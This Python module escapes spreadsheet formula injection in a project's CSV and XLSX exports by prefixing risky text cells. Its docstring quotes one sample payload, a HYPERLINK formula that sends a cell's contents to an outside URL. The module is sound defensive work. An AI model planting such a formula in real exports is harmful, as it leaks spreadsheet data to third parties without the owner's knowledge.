"""Spreadsheet exports that never plant a formula: every XLSX and CSV file Zveno writes uses these.

A text that starts with ``= + - @``, a tab or a carriage return is read as a formula by
spreadsheet programs (``=HYPERLINK("http://…?"&A2,"x")`` in a post title would leak the sheet).
In CSV such a text gets a leading apostrophe; in XLSX it is stored as a string cell with the
"quote prefix" style, so it shows as typed and stays text when edited. Numbers and dates are
left alone.
"""

from __future__ import annotations

import csv

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def risky(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def csv_value(value):
    """A CSV cell: a risky text with a leading apostrophe, anything else as it is."""
    if hasattr(value, "__html__") and not isinstance(value, str):
        value = str(value)
    return "'" + value if risky(value) else value


class SafeWriter:
    """``csv.writer`` that escapes every risky text cell."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, row):
        return self._writer.writerow([csv_value(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(buffer, **options) -> SafeWriter:
    return SafeWriter(buffer, **options)


def append_row(sheet, values) -> None:
    """``sheet.append(values)``; a risky text is kept as a text cell, never a formula."""
    values = [str(v) if hasattr(v, "__html__") and not isinstance(v, str) else v for v in values]
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if risky(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True
